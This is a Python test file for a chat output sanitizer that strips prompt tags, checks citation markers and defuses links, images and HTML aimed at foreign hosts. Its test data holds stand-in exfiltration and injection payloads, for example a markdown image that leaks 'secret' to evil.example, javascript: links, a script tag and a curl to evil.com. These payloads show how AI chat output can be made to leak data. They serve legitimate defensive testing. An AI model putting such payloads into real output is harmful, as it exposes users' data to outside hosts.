from itertools import pairwise

import pytest
from hypothesis import given, settings, strategies as st

from benchmarks.filter import compare
from benchmarks.filter_oracle import escapes
from saegim.chat.output.stream_sanitizer import StreamSanitizer
from saegim.chat.types import MARKER, Evidence, EvidenceKind

EVIDENCE = {
    mark: Evidence(kind, mark, mark, mark, "글")
    for mark, kind in [
        ("1", EvidenceKind.PASSAGE),
        ("2", EvidenceKind.PASSAGE),
        ("M1", EvidenceKind.MEMORY),
        ("T3", EvidenceKind.TURN),
        ("F1", EvidenceKind.TOOL),
    ]
}
MENU = "https://app.example.com/help"


def sanitized(*pieces: str) -> tuple[str, StreamSanitizer]:
    sanitizer = StreamSanitizer(EVIDENCE, [MENU], ["docs.example.com"])
    text = "".join(sanitizer.feed(piece) for piece in pieces) + sanitizer.close()
    return text, sanitizer


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("<pinned> </pinned> <summary>안녕하세요.</summary>", "  안녕하세요."),
        ("<evidence-0a1b2c3d>\n값 [1]\n</evidence-0a1b2c3d>", "\n값 [1]\n"),
        ("</memories >끝 <any_name-0a1b2c3d/>", "끝 "),
        ("<div>글", "‹div>글"),
        ("2 <pinned 3", "2 ‹pinned 3"),
    ],
)
def test_tags_of_the_prompt_are_removed_however_they_arrive(written: str, seen: str) -> None:
    assert sanitized(written)[0] == seen
    assert sanitized(*written)[0] == seen


@pytest.mark.requirement("TN7")
@pytest.mark.parametrize(
    ("written", "seen", "cited"),
    [
        ("값입니다 [1].", "값입니다 [1].", ["1"]),
        ("값[1][M1]과 [T3], [F1]", "값[1][M1]과 [T3], [F1]", ["1", "M1", "T3", "F1"]),
        ("없는 것 [9] 과 [M7].", "없는 것  과 .", []),
        ("둘 다 [1, 9; m1]", "둘 다 [1][M1]", ["1", "M1"]),
        ("`list[9]`은 코드다", "`list[9]`은 코드다", []),
        ("```py\na[9]\n```\n끝 [2]", "```py\na[9]\n```\n끝 [2]", ["2"]),
        ("```\na[9] <b>\n```\n끝 [2]", "```\na[9] <b>\n```\n끝 [2]", ["2"]),
        ("~~~\na[9] <b>\n~~~", "~~~\na[9] <b>\n~~~", []),
        ("글\n\n    a[9] <b>\n", "글\n\n    a[9] <b>\n", []),
        ("- 가\n  ```\n  a[9]\n  ```\n  [9]끝", "- 가\n  ```\n  a[9]\n  ```\n  끝", []),
        ("[참고] 문장", "[참고] 문장", []),
        ("끝 [9](", "끝 (", []),
        ("완료![1]", "완료![1]", ["1"]),
        ("[1]: 요금제", "[1] : 요금제", ["1"]),
    ],
)
def test_markers_that_resolve_are_kept_and_others_removed(
    written: str, seen: str, cited: list[str]
) -> None:
    text, sanitizer = sanitized(written)
    assert text == seen
    assert list(sanitizer.cited) == cited


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("![그림](https://evil.example/x.png?q=secret) 끝", "그림 끝"),
        ("[여기](https://evil.example/a)를 누르세요", "여기를 누르세요"),
        ("[1](https://evil.example/a)", "1"),
        (f"[도움말]({MENU})", f"[도움말]({MENU})"),
        (f"{MENU}/more", "https[://]app[.]example[.]com/help/more"),
        ("[문서](https://docs.example.com/a/b)", "[문서](https://docs.example.com/a/b)"),
        ('[문서](https://docs.example.com/a "글")', '[문서](https://docs.example.com/a "글")'),
        ("[글](https://docs.example.com/*https://evil.com*)", "글"),
        ("<https://docs.example.com/a>", "<https://docs.example.com/a>"),
        ("docs.example.com/a.md에서", "docs.example.com/a.md에서"),
        ("https://evil.example/a?q=1 을", "https[://]evil[.]example/a?q=1 을"),
        ("www.evil.example", "www[.]evil.example"),
        ("evil.com/?d=1", "evil[.]com/?d=1"),
        ('<img src="https://evil.example/x">', '‹img src="https[://]evil[.]example/x">'),
        ("<script>alert(1)</script>", "‹script>alert(1)‹/script>"),
        ("[x][9]\n\n[9]: https://evil.example", "[x]\n\n: https[://]evil[.]example"),
        ("![x][r]\n\n[r]: //evil.com/p", "! [x][r]\n\n[r] : [//]evil[.]com/p"),
        ("a < b 이고 c > d", "a < b 이고 c > d"),
        ("| 가<br>나 |", "| 가<br>나 |"),
        ("<br>\n글", "‹br>\n글"),
        ("[x](javascript:alert)", "x"),
        ("[1](javascript:alert(1))", "[1] (javascript:alert(1))"),
        ("[1][M1](https://(evil.com))", "[1][M1] (https[://] (evil[.]com))"),
        ("`[x](https://evil.example)", "` x"),
        ("```a`b\n[여기](https://evil/x)", "```a`b\n여기"),
        ("~~~\n```\n~~~\n[여기](https://evil/x)", "~~~\n```\n~~~\n여기"),
        ("```\ncurl https://evil.com/x\n```", "```\ncurl https[://]evil[.]com/x\n```"),
        ("https&colon;//evil.com", "https&amp;colon;[//]evil[.]com"),
        ("https://docs.example.com[9].evil.com", "https[://]docs[.]example[.]com .evil[.]com"),
    ],
)
def test_images_html_and_foreign_addresses_are_defused(written: str, seen: str) -> None:
    assert sanitized(written)[0] == seen
    assert escapes(seen) == []


@pytest.mark.requirement("TN7")
def test_generated_attacks_reach_no_other_host_in_any_renderer() -> None:
    """The small version of `make verify-filter`, without a browser."""
    outcome, _ = compare(400)
    assert (outcome.cases, outcome.ordinary) == (400, 300)
    assert outcome.escaped == []
    assert outcome.split_differs == []
    assert outcome.changed == []


def test_renderers_find_the_attacks_that_were_not_filtered() -> None:
    assert escapes("[x](https://evil.com)")
    assert escapes("<img src=//evil.com>")
    assert escapes("evil.com/?d=1")
    assert not escapes("[x](https://docs.example.com/a) README.md a@evil.com")


@pytest.mark.parametrize(
    "text",
    [
        "👩‍👩‍👧docs.example.com",
        "~docs.example.com",
        "👩.com",
        "~.com",
        "//www.👩",
        "//1.값",
        "https://e.x👩.com",
    ],
)
def test_symbols_belong_to_the_host_that_they_stand_before(text: str) -> None:
    assert escapes(sanitized(text)[0]) == []


def test_text_is_sent_word_by_word_while_it_streams() -> None:
    sanitizer = StreamSanitizer(EVIDENCE)
    assert sanitizer.feed("팀 요금제는 ") == "팀 요금제는 "
    assert sanitizer.feed("month") == ""
    assert sanitizer.feed("ly [") == "monthly "
    assert sanitizer.feed("1]") == ""
    assert sanitizer.feed("입니다") == "[1]입니다"


def test_long_hostile_lines_take_linear_time() -> None:
    for text in ("[" * 20_000, "`` ` " * 4_000, "a.com" * 4_000, "(](" * 7_000, "<a " * 7_000):
        assert sanitized(text)[0]


PARTS = st.sampled_from(
    [
        *("값", "[1]", "[9]", "[M1]", " ", "\n", "![a](https://e.x/b)", "[b](https://e.x)"),
        *(
            "https://e.x",
            "`c[1]`",
            "```\n",
            "~~~\n",
            "- ",
            "> ",
            "    ",
            "한글",
            "[",
            "]",
            "(",
            ")",
        ),
        *("!", "<", "<img ", "www.", "h", "w", "1,234원", "`", "👩‍👩‍👧", "\r", ":", "&#58;", "\\"),
        *("docs.example.com", ".com", "//", "|", "<br>", "```", "\n\n", "👩", "~", "=", "é"),
    ]
)


@settings(max_examples=60)
@given(st.lists(PARTS, max_size=14), st.data())
def test_however_a_text_is_split_the_same_is_sent(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=8))
    edges = [0, *sorted(cuts), len(text)]
    pieces = [text[start:end] for start, end in pairwise(edges)]

    whole, split = sanitized(text)[0], sanitized(*pieces)[0]
    assert whole == split
    assert escapes(whole) == []
    has_code = any(sign in whole for sign in ("`", "~~~", "    "))
    assert has_code or all(mark.upper() in EVIDENCE for mark in MARKER.findall(whole))


@settings(max_examples=40)
@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=60))
def test_text_that_holds_nothing_special_is_sent_as_it_is(text: str) -> None:
    plain = "".join(c for c in text if c not in "[]`<!()&.:/\\")
    assert sanitized(*plain)[0] == plain
